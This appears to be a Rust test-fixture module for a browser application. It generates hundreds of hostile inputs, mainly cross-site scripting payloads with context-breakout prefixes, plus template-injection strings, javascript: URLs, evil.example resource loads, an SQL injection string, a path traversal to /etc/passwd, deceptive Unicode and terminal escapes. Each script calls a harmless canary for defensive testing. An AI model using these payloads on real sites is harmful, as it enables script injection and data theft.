//! Some 500 things that a stranger may put wherever he can. Each script among them calls the canary, if anything takes it for one.

use crate::app::browser::tab::CANARY;

/// Ways out of where a text may stand.
const EXITS: [&str; 11] = [
    "",
    "\">",
    "'>",
    "</title>",
    "</textarea></pre>",
    "</script>",
    "</style>",
    "-->",
    "]]>",
    "</svg></math>",
    "</td></tr></table></select>",
];

/// What runs once it is out; `RUN` is the call.
const VECTORS: [&str; 37] = [
    "<script>RUN</script>",
    "<ScRiPt>RUN</sCrIpT >",
    "<script src=data:text/javascript,RUN></script>",
    "<script type=module>RUN</script>",
    "<img src=x onerror=RUN>",
    "<img src=x onerror='RUN'//",
    "<image href=x onerror=RUN>",
    "<svg onload=RUN>",
    "<svg/onload=RUN>",
    "<svg><script>RUN</script></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:RUN><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=RUN>",
    "<body onload=RUN>",
    "<iframe srcdoc=\"<script>parent.RUN</script>\"></iframe>",
    "<iframe src=javascript:parent.RUN></iframe>",
    "<object data=javascript:RUN>",
    "<embed src=javascript:RUN>",
    "<video><source onerror=RUN>",
    "<audio src=x onerror=RUN>",
    "<details open ontoggle=RUN>",
    "<input autofocus onfocus=RUN>",
    "<select autofocus onfocus=RUN>",
    "<textarea autofocus onfocus=RUN>",
    "<button autofocus onfocus=RUN popovertarget=x>",
    "<marquee onstart=RUN>",
    "<a href=javascript:RUN autofocus onfocus=RUN>x</a>",
    "<form action=javascript:RUN><button autofocus>x</button></form>",
    "<meta http-equiv=refresh content=\"0;url=javascript:RUN\">",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=preload as=image href=//evil.example/x>",
    "<style>@import '//evil.example/x.css';*{display:none}</style>",
    "<div style=\"position:fixed;inset:0;background:url(//evil.example/x)\">",
    "<template shadowrootmode=open><script>RUN</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=RUN>\">",
    "<xss id=x tabindex=1 style=animation-name:x onanimationstart=RUN onfocus=RUN autofocus>",
];

/// What needs no markup: attributes, templates, addresses, and what misleads an eye.
const TEXTS: [&str; 61] = [
    "\" autofocus onfocus=RUN x=\"",
    "' autofocus onfocus=RUN x='",
    "` onfocus=RUN autofocus x=`",
    " onload=RUN ",
    "x onclick=RUN",
    "';RUN;//",
    "\";RUN;//",
    "\\';RUN;//",
    "${RUN}",
    "{{RUN}}",
    "{{constructor.constructor('RUN')()}}",
    "{% raw %}{{ 7 * 7 }}{% endraw %}",
    "<%= RUN %>",
    "#{RUN}",
    "{{ it.secret }}",
    "javascript:RUN",
    "JaVaScRiPt:RUN",
    "java\nscript:RUN",
    "\u{1}javascript:RUN",
    "data:text/html,<script>RUN</script>",
    "vbscript:RUN",
    "//evil.example/",
    "https://evil.example/\\@localhost",
    "&lt;script&gt;RUN&lt;/script&gt;",
    "&#60;script&#62;RUN&#60;/script&#62;",
    "%3Cscript%3ERUN%3C/script%3E",
    "\u{ff1c}script\u{ff1e}RUN\u{ff1c}/script\u{ff1e}",
    "+ADw-script+AD4-RUN+ADw-/script+AD4-",
    "<!--",
    "<![CDATA[",
    "<?xml version=\"1.0\"?>",
    "<!DOCTYPE html>",
    "<plaintext>",
    "<xmp>",
    "<title>",
    "<",
    "&",
    "&amp",
    "'\"`<>&=",
    "__proto__",
    "constructor",
    "../../../../etc/passwd",
    "'; drop table event; --",
    "\u{202e}gpj.exe",
    "\u{2066}left\u{2069}\u{2067}right\u{2069}",
    "\u{200b}\u{200c}\u{200d}\u{2060}\u{feff}",
    "a\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}",
    "\u{2028}line\u{2029}paragraph",
    "\u{ad}soft\u{ad}hyphen",
    "\u{85}\u{9b}31m",
    "\u{1b}]0;title\u{7}\u{1b}[2J\u{1b}[31m",
    "\u{8}\u{8}\u{8}\u{7f}\r\n\t\u{b}\u{c}",
    "\u{e0041}\u{e0042}\u{e007f}",
    "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}",
    "\u{fdfa}\u{fdfd}",
    "\u{d7ff}\u{e000}\u{fffd}\u{ffff}\u{10ffff}",
    "раураl",
    "İıſK",
    "\u{115f}\u{3164}\u{ffa0}",
    "null",
    "-1e309",
];

/// All of them, and among them no two that are the same.
pub(super) fn all() -> Vec<String> {
    let mut all = Vec::new();
    for exit in EXITS {
        all.extend(VECTORS.iter().map(|it| format!("{exit}{it}")));
    }
    all.extend(TEXTS.map(str::to_owned));
    // Long ones, of what is short where it is cut.
    all.push("A".repeat(20_000));
    all.push("\u{202e}".repeat(5_000));
    all.push("<b>".repeat(5_000));
    all.push("👩‍👩‍👧".repeat(2_000));
    all.push("&quot;".repeat(5_000));
    all.push(" ".repeat(5_000));
    all.push("word ".repeat(4_000));
    let run = format!("{CANARY}(1)");
    all.into_iter().map(|it| it.replace("RUN", &run)).collect()
}

/// Bodies that are no text, or more of it than anybody reads.
pub(super) fn bodies() -> Vec<Vec<u8>> {
    let deep =
        |open: &str, close: &str| format!("{}1{}", open.repeat(10_000), close.repeat(10_000)).into_bytes();
    let huge = "<u>".repeat(4 << 20).into_bytes();
    let strings: Vec<_> = (0..3_000).map(|n| format!("\"</pre><u>{n}\"")).collect();
    vec![
        huge[..10 << 20].to_vec(),
        deep("[", "]"),
        deep("{\"a\":", "}"),
        format!("[{}]", strings.join(",")).into_bytes(),
        (0..=255).cycle().take(100_000).collect(),
        // UTF-8 that is none: overlong, cut, half of a pair.
        b"\xc0\xbcscript\xc0\xbe \xe2\x80 \xed\xa0\x80 \xf4\x90\x80\x80".to_vec(),
        // UTF-16, with its mark.
        "\u{feff}<script>"
            .encode_utf16()
            .flat_map(u16::to_le_bytes)
            .collect(),
        b"\0\0\0".to_vec(),
        Vec::new(),
    ]
}
